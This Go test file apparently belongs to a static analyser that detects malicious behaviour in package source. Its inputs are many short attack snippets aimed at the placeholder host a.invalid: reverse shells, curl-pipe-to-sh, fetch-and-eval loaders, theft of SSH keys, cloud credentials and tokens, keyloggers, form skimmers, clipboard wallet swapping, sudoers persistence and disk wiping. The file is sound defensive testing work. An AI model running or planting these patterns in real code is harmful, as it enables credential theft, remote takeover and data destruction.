package behavior

import (
	"slices"
	"testing"
)

// Each shape of an attack is seen as what it is.
func TestAttacks(t *testing.T) {
	for _, tt := range []struct{ situation, path, source, want string }{
		{"a shell on a socket", "a.js", "const s = require('child_process').spawn('sh'); const c = new (require('net').Socket)(); c.connect(1, 'a.invalid', () => c.pipe(s.stdin))", "network>process standard input"},
		{"a shell on a connection", "a.go", "package a\nimport (\"net\"; \"os/exec\")\nfunc init() { c, _ := net.Dial(\"tcp\", \"a.invalid:1\"); s := exec.Command(\"sh\"); s.Stdin = c; s.Run() }", "network>process standard input"},
		{"a shell on copied descriptors", "a.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('a.invalid', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')", "network>process standard input"},
		{"a shell that is handed what came", "a.js", "const p = require('child_process').spawn('bash'); fetch('https://a.invalid').then((r) => r.text()).then((t) => p.stdin.write(t))", "network>process standard input"},
		{"code in the answer of an error", "a.js", "async function f() { try { await require('axios').get('https://a.invalid') } catch (e) { eval(e.response.data) } }\nf()", "network>dynamic eval"},
		{"Node.js by its own path", "a.js", "require('child_process').spawn(process.execPath, ['-e', 'fetch(\"https://a.invalid\").then((r) => r.text()).then((t) => eval(t))'])", "network>dynamic eval"},
		{"a file that is open, and its name", "a.go", "package a\nimport (\"net/http\"; \"io\"; \"os\"; \"os/exec\")\nfunc init() { r, _ := http.Get(\"https://a.invalid\"); b, _ := io.ReadAll(r.Body); f, _ := os.CreateTemp(\"\", \"x\"); f.Write(b); exec.Command(\"sh\", f.Name()).Run() }", "network>process sh"},
		{"a file that is opened for writing", "a.py", "import os, subprocess, urllib.request\nd = os.path.join(x, 'y')\nwith open(d, 'wb') as f:\n    f.write(urllib.request.urlopen('https://a.invalid').read())\nsubprocess.Popen([d])", "network>process …/y"},
		{"the start of a shell, opened to be added to", "a.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')", "persistence start of a shell"},
		{"files of a folder of secrets", "a.py", "import os, socket\nfor r, _, n in os.walk('~/.ssh'):\n    socket.gethostbyname(open(os.path.join(r, n)).read() + '.a.invalid')", "secret>network "},
		{"a secret by a path that is known in part", "a.js", "fetch('https://a.invalid', {body: require('fs').readFileSync(dir + '/.aws/credentials')})", "secret>network a.invalid"},
		{"secrets of a list of paths", "a.py", "import requests\nfor p in ('/etc/hosts', '/etc/passwd'):\n    requests.post('https://a.invalid', data=open(p).read())", "secret>network a.invalid"},
		{"a disk that is written to", "a.go", "package a\nimport \"os\"\nfunc init() { f, _ := os.OpenFile(\"/dev/sda\", os.O_WRONLY, 0); f.Write(nil) }", "destruction /dev/sda"},
		{"a module in its own address", "a.mjs", "import('data:text/javascript;base64,SU5FUlQgRklYVFVSRQ==')", "decoding>dynamic import"},
		{"a program that prints tokens", "a.js", "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://a.invalid', {method: 'POST', body: t})", "secret>network a.invalid"},
		{"rights by way of tee", "a.sh", "echo 'x' | sudo tee -a /etc/sudoers.d/x", "persistence rights of a user"},
		{"a method of all lists that tells", "a.js", "const p = Array.prototype.push; Array.prototype.push = function (...a) { fetch('https://a.invalid/' + a[0]); return p.apply(this, a) }", "secret>network a.invalid"},
		{"a reader of texts that tells", "a.js", "JSON.parse = function (t) { const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid'); x.send(t) }", "secret>network a.invalid"},
		{"requests of others that are read", "a.py", "import requests\nold = requests.Session.request\ndef new(self, m, u, **k):\n    old(self, 'POST', 'https://a.invalid', json=k)\nrequests.Session.request = new", "secret>network a.invalid"},
		{"keys that are told in a picture's address", "a.js", "let b = ''; document.addEventListener('keydown', (e) => { b += e.key }); setInterval(() => { new Image().src = 'https://a.invalid/?' + b }, 1)", "secret>network a.invalid"},
		{"forms that are told", "a.js", "document.addEventListener('submit', (e) => { const o = {}; new FormData(e.target).forEach((v, k) => { o[k] = v }); navigator.sendBeacon('https://a.invalid', JSON.stringify(o)) })", "secret>network a.invalid"},
		{"an address on the clipboard", "a.js", "document.addEventListener('copy', (e) => e.clipboardData.setData('text/plain', '0x2222222222222222222222222222222222222222'))", "recipient 0x2222222222222222222222222222222222222222"},
		{"a script of elsewhere", "a.js", "const s = document.createElement('script'); s.src = 'https://a.invalid/x.js'; document.head.append(s)", "network>dynamic script element"},
		{"the environment without brackets", "a.rb", "Net::HTTP.post(URI('https://a.invalid'), ENV.to_h.to_json)", "environment>network a.invalid"},
		{"a chain whose first address is asked for", "a.js", "c.get().then((u) => fetch(u)).then((r) => r.text()).then((s) => eval(s))", "network>dynamic eval"},
		{"a worker of what came", "a.js", "const { Worker } = require('worker_threads'); require('https').get('https://a.invalid', (r) => { const l = []; r.on('data', (p) => l.push(p)); r.on('end', () => new Worker(Buffer.concat(l).toString(), { eval: true })) })", "network>dynamic worker_threads.Worker"},
		{"a command that is built", "build.rs", "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl https://a.invalid | sh\").spawn(); }", "network>process sh"},
		{"the environment in a command that is built", "build.rs", "use std::process::Command;\nfn main() { let mut d = String::new(); for (k, v) in std::env::vars() { d.push_str(&format!(\"{}={}\", k, v)); } let _ = Command::new(\"curl\").args(&[\"-d\", &d, \"https://a.invalid\"]).status(); }", "environment>network a.invalid"},
		{"a token over a socket", "a.rs", "use std::net::TcpStream;\nuse std::io::Read;\nfn f() { let mut s = String::new(); let mut f = std::fs::File::open(format!(\"{}/.cargo/credentials.toml\", std::env::var(\"HOME\").unwrap_or_default())).unwrap(); f.read_to_string(&mut s); let mut t = TcpStream::connect(\"a.invalid:80\").unwrap(); t.write_all(s.as_bytes()); }", "secret>network a.invalid"},
		{"a token in a command", "a.js", "require(\"child_process\").execSync(`curl -d ${process.env.NPM_TOKEN} https://a.invalid`)", "secret>network a.invalid"},
		{"a builtin by the codes of its letters", "a.py", "import zlib\ngetattr(__import__(bytes([98, 117, 105, 108, 116, 105, 110, 115]).decode()), \"\".join(map(chr, [101, 120, 101, 99])))(zlib.decompress(x))", "decoding>dynamic exec"},
		{"a library at a path that is known in part", "a.js", "const f = `/tmp/.addon-${process.arch}.node`; require(\"child_process\").execFileSync(\"curl\", [\"-o\", f, \"https://a.invalid/x\"]); require(f)", "network>dynamic require"},
		{"the code of another package", "a.js", "const t = require.resolve(\"ethers\"); require(\"fs\").writeFileSync(t, \"x\")", "destruction code of another package"},
		{"the code of another package by its folder", "a.js", "require(\"fs\").writeFileSync(\"node_modules/ethers/lib/index.js\", \"x\")", "destruction code of another package"},
		{"a repository that is made by a client", "a.js", "const { Octokit } = require(\"@octokit/rest\"); const g = new Octokit({}); g.repos.createForAuthenticatedUser({ name: \"x\" })", "publishing repository"},
		{"code behind a picture", "a.js", "const t = require(\"fs\").readFileSync(__dirname + \"/logo.png\").slice(8).map((b) => b ^ 42).toString(); new Function(t)()", "decoding>dynamic Function"},
		{"a program in a temporary file", "a.py", "from tempfile import NamedTemporaryFile as f\nt = f(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen(\\\"https://a.invalid\\\").read())\")", "network>dynamic exec"},
		{"the environment in the log, encoded", "a.py", "import os, base64, json\nprint(base64.b64encode(base64.b64encode(json.dumps(dict(os.environ)).encode())).decode())", "environment>network the log"},
		{"memory in the log, by a program that is typed", "a.sh", "sudo python3 - <<'PY' | tr -d '\\0' | base64 -w0\nwith open('/proc/1/mem', 'rb') as mem:\n    print(mem.read(4))\nPY", "secret>network the log"},
		{"secrets of a list, by a function", "a.js", "const f = require('fs'); const l = ['.npmrc', '.x'].map((n) => f.readFileSync(require('os').homedir() + '/' + n)); fetch('https://a.invalid', { method: 'POST', body: l.join() })", "secret>network a.invalid"},
		{"the environment by a connection", "a.py", "import os\nfrom http.client import HTTPSConnection\nc = HTTPSConnection('a.invalid')\nc.request('POST', '/', body='x'.join(v for v in os.environ.values()))", "environment>network a.invalid"},
		{"a token at a path that is expanded", "a.rb", "Net::HTTP.post(URI(\"https://a.invalid\"), File.read(File.expand_path(\"~/.gem/credentials\")))", "secret>network a.invalid"},
		{"a library that came", "a.go", "package a\nimport (\"io\"; \"net/http\"; \"os\"; \"plugin\")\nfunc init() { r, _ := http.Get(\"https://a.invalid/p.so\"); o, _ := os.Create(\"/tmp/.p.so\"); io.Copy(o, r.Body); plugin.Open(\"/tmp/.p.so\") }", "network>dynamic plugin.Open"},
		{"a function that is constructed", "a.js", "Reflect.construct(Function, [\"require\", Buffer.from(x, \"base64\").toString()])(require)", "decoding>dynamic Function"},
		{"a shell below the module for it", "a.js", "process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'curl https://a.invalid | sh'] })", "network>process sh"},
		{"what a program prints, by listeners", "a.js", "const { exec } = require('@actions/exec'); let o = ''; exec('cat', ['/proc/1/environ'], { listeners: { stdout: (d) => { o += d } } }); console.log(Buffer.from(o).toString('base64'))", "secret>network the log"},
	} {
		if got := deeds(tt.path, tt.source); !slices.Contains(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.situation, got, tt.want)
		}
	}
}

// What looks like an attack is none.
func TestHonest(t *testing.T) {
	for _, tt := range []struct{ situation, path, source, not string }{
		{"a child that reads what is typed", "a.js", "const c = require('child_process').spawn('cat'); process.stdin.pipe(c.stdin)", "network>process standard input"},
		{"a file that is opened for reading", "a.py", "f = open('x', 'rb')", "file-write x"},
		{"an error that is thrown on", "a.js", "try { JSON.parse(x) } catch (e) { eval(e.message) }", "network>dynamic eval"},
		{"what is written nowhere", "a.go", "package a\nimport \"os\"\nfunc init() { os.OpenFile(\"/dev/null\", os.O_WRONLY, 0) }", "destruction /dev/null"},
		{"git asked for its version", "a.js", "fetch('https://a.invalid', {body: require('child_process').execSync('git describe --tags')})", "secret>network a.invalid"},
		{"what is filled in where it is missing", "a.js", "if (!Array.prototype.at) { Array.prototype.at = function (n) { return this[n] } }", "interception lists"},
		{"a shortcut by a key", "a.js", "document.addEventListener('keydown', (e) => { if (e.key === 'x') fetch('https://a.invalid/save') })", "secret>network a.invalid"},
		{"text on the clipboard", "a.js", "b.onclick = () => navigator.clipboard.writeText('npm install x')", "recipient npm install x"},
		{"a picture", "a.js", "const s = document.createElement('img'); s.src = 'https://a.invalid/x.js'", "network>dynamic script element"},
		{"a worker of a file", "a.js", "const { Worker } = require('worker_threads'); fetch('https://a.invalid').then((r) => new Worker('./w.js', { workerData: r }))", "network>dynamic worker"},
		{"the version of a compiler", "build.rs", "fn main() { std::process::Command::new(std::env::var_os(\"RUSTC\").unwrap()).arg(\"--version\").output(); }", "network>process rustc"},
		{"a module that is found", "a.js", "const m = require(require.resolve(\"fs\")); m.writeFileSync(\"node_modules/.cache/x.js\", \"x\")", "destruction code of another package"},
		{"a worker's text", "a.js", "new Function(require(\"fs\").readFileSync(\"a.js\", \"utf8\"))()", "decoding>dynamic Function"},
		{"the environment in the log", "a.js", "console.log(process.env)", "environment>network the log"},
		{"a secret that is encoded for a header", "a.js", "const a = Buffer.from(process.env.API_TOKEN).toString(\"base64\"); console.log(\"asking\"); fetch(u, { headers: { a } })", "secret>network the log"},
		{"a folder's token that is kept", "a.sh", "X=$(cat ~/.kube/config | base64)", "secret>network the log"},
	} {
		if got := deeds(tt.path, tt.source); slices.Contains(got, tt.not) {
			t.Errorf("%s: got %q, and not %q", tt.situation, got, tt.not)
		}
	}
}

// An init of Go runs when the package is loaded.
func TestInitLoads(t *testing.T) {
	for _, o := range Of("a.go", []byte("package a\nimport \"os/exec\"\nfunc init() { exec.Command(\"x\").Run() }\nfunc f() { exec.Command(\"y\").Run() }")).Observations {
		if o.What != "" && o.Loads != (o.What == "x") {
			t.Errorf("%q: loads %t", o.What, o.Loads)
		}
	}
}

// deeds are what a file does: observations, and flows with where they come from.
func deeds(path, source string) []string {
	f := Of(path, []byte(source))
	var all []string
	for _, o := range f.Observations {
		all = append(all, o.Kind.String()+" "+o.What)
	}
	for _, f := range f.Flows {
		all = append(all, f.From.String()+">"+f.Kind.String()+" "+f.What)
	}
	return all
}

// What one module of Python decodes and another runs is one flow.
func TestPythonLinks(t *testing.T) {
	files := map[string]*File{
		"a/__init__.py": Of("a/__init__.py", []byte("import a.data as d\nexec(d.load())")),
		"a/data.py":     Of("a/data.py", []byte("import lzma\ndef load():\n    return lzma.decompress(x)")),
	}
	Link(files, func(_, module string) string { return map[string]string{"a.data": "a/data.py"}[module] })
	if f := files["a/__init__.py"].Flows; len(f) != 1 || f[0].From != Decoding || f[0].Kind != Dynamic {
		t.Errorf("got %v, want what is decoded run as code", f)
	}
}

// What one file reads is sent by another, and a third brings them together.
func TestLinksOverThree(t *testing.T) {
	files := map[string]*File{
		"a.js":     Of("a.js", []byte("exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc')")),
		"b.js":     Of("b.js", []byte("exports.send = (x) => { const r = require('https').request('https://a.invalid'); r.write(x) }")),
		"index.js": Of("index.js", []byte("const { read } = require('./a'); const { send } = require('./b'); send(read())")),
	}
	Link(files, func(_, module string) string { return module[2:] + ".js" })
	if f := files["b.js"].Flows; len(f) != 1 || f[0].From != Secret || f[0].Kind != Network {
		t.Errorf("got %v, want a secret that is sent", f)
	}
}

// The files of a package of Go are one.
func TestGoLinks(t *testing.T) {
	files := map[string]*File{
		"x/a.go": Of("x/a.go", []byte("package x\nimport \"os\"\nfunc all() []string { return os.Environ() }")),
		"x/b.go": Of("x/b.go", []byte("package x\nimport (\"net/http\"; \"strings\")\nfunc push(l []string) { http.Post(\"https://a.invalid\", \"x\", strings.NewReader(strings.Join(l, \"\"))) }\nfunc init() { push(all()) }")),
		"y/a.go": Of("y/a.go", []byte("package y\nfunc all() []string { return nil }")),
	}
	Link(files, func(_, _ string) string { return "" })
	if f := files["x/b.go"].Flows; len(f) != 1 || f[0].From != Environment || f[0].Kind != Network {
		t.Errorf("got %v, want the environment that is sent", f)
	}
}
